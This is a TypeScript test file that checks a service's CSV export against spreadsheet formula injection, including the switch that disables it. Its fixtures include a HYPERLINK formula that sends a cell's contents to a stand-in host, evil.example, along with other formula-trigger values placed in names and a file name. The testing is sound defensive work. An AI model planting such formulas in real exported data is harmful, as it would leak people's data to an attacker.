import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestDatabase } from './support/database.js';
import { createTestDatabase } from './support/database.js';
import { makeImage, put, readText } from './support/fixtures.js';
import type { TestService } from './support/service.js';
import { sameBuckets, startTestService } from './support/service.js';
import type { Backend } from './support/stores.js';
import { backends } from './support/stores.js';

// Names and a file name a spreadsheet would run as formulas (issue 18). Tab and CR cannot get
// past the input rules; test/exportOutput.test.ts shows the writer neutralizes them too.
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"open")';
const csvFile = (first: string, last: string, birthts: number) =>
  `first_name,last_name,birthts\n"${first.replaceAll('"', '""')}","${last.replaceAll('"', '""')}",${birthts}\n`;

interface User {
  user_id: string;
  first_name: string;
  last_name: string;
  birthts: number;
  img_path: string | null;
}

describe.each(backends)('formula cells on the %s backend', (_name, start) => {
  let backend: Backend;
  let db: TestDatabase;
  let svc: TestService;
  let photo: string;

  beforeAll(async () => {
    backend = await start();
    db = await createTestDatabase();
    svc = await startTestService(backend, db);
    await put(backend, svc.srcBucket, 'f/=cmd.csv', csvFile(HYPERLINK, '+1', -1000));
    await put(backend, svc.srcBucket, 'f/=cmd.png', await makeImage('png'));
    await put(backend, svc.srcBucket, '2.csv', csvFile('-2', '@SUM(A1)', 5));
    expect(await (await svc.post('/data?wait=true')).json()).toMatchObject({ status: 'succeeded', counts: { rejected: 0 } });
    // The img_path column starts with the bucket's name, which no formula character starts.
    photo = `${svc.srcBucket}/f/=cmd.png`;
  });
  afterAll(async () => {
    await svc.stop();
    await db.drop();
    await backend.stop();
  });

  it("output.csv writes each formula cell with a leading '; a negative birthts stays a number", async () => {
    expect(await readText(backend, svc.resBucket, 'output.csv')).toBe(
      'user_id,first_name,last_name,birthts,img_path\r\n' +
        "2,'-2,'@SUM(A1),5,\r\n" +
        `'=cmd,"'=HYPERLINK(""http://evil.example/?x=""&B2,""open"")",'+1,-1000,${photo}\r\n`,
    );
  });

  it('GET /data?format=csv does the same, streamed and paged', async () => {
    for (const query of ['', '&limit=5']) {
      const rows = parse<Record<string, string>>(await (await svc.get(`/data?format=csv${query}`)).text(), { columns: true });
      expect(rows.map(({ user_id, first_name, last_name, birthts, img_path }) => ({ user_id, first_name, last_name, birthts, img_path })), query).toEqual([
        { user_id: '2', first_name: "'-2", last_name: "'@SUM(A1)", birthts: '5', img_path: '' },
        { user_id: "'=cmd", first_name: `'${HYPERLINK}`, last_name: "'+1", birthts: '-1000', img_path: photo },
      ]);
    }
  });

  it('JSON answers keep the exact values', async () => {
    const { data } = (await (await svc.get('/data')).json()) as { data: User[] };
    expect(data.map(({ user_id, first_name, last_name, birthts, img_path }) => ({ user_id, first_name, last_name, birthts, img_path }))).toEqual([
      { user_id: '2', first_name: '-2', last_name: '@SUM(A1)', birthts: 5, img_path: null },
      { user_id: '=cmd', first_name: HYPERLINK, last_name: '+1', birthts: -1000, img_path: photo },
    ]);
    expect(((await (await svc.get('/data/%3Dcmd')).json()) as User).first_name).toBe(HYPERLINK);
  });

  it('CSV_NEUTRALIZE_FORMULAS=false writes exact values, in output.csv from its next rewrite', async () => {
    await svc.stop();
    svc = await startTestService(backend, db, { ...sameBuckets(svc), CSV_NEUTRALIZE_FORMULAS: 'false' });
    const exact = `=cmd,"=HYPERLINK(""http://evil.example/?x=""&B2,""open"")",+1,-1000,${photo}\r\n`;
    const api = await (await svc.get('/data?format=csv')).text();
    expect(api.split('\r\n')[2]).toMatch(/^\d+,=cmd,"=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&B2,""open""\)",\+1,/);
    // Nothing changed, so the file is not rewritten yet; a full run rewrites it.
    expect(await (await svc.post('/data?wait=true')).json()).toMatchObject({ status: 'succeeded' });
    expect(await readText(backend, svc.resBucket, 'output.csv')).toContain("'=cmd");
    expect(await (await svc.post('/data?wait=true&full=true')).json()).toMatchObject({ status: 'succeeded' });
    expect(await readText(backend, svc.resBucket, 'output.csv')).toBe('user_id,first_name,last_name,birthts,img_path\r\n' + '2,-2,@SUM(A1),5,\r\n' + exact);
  });
});
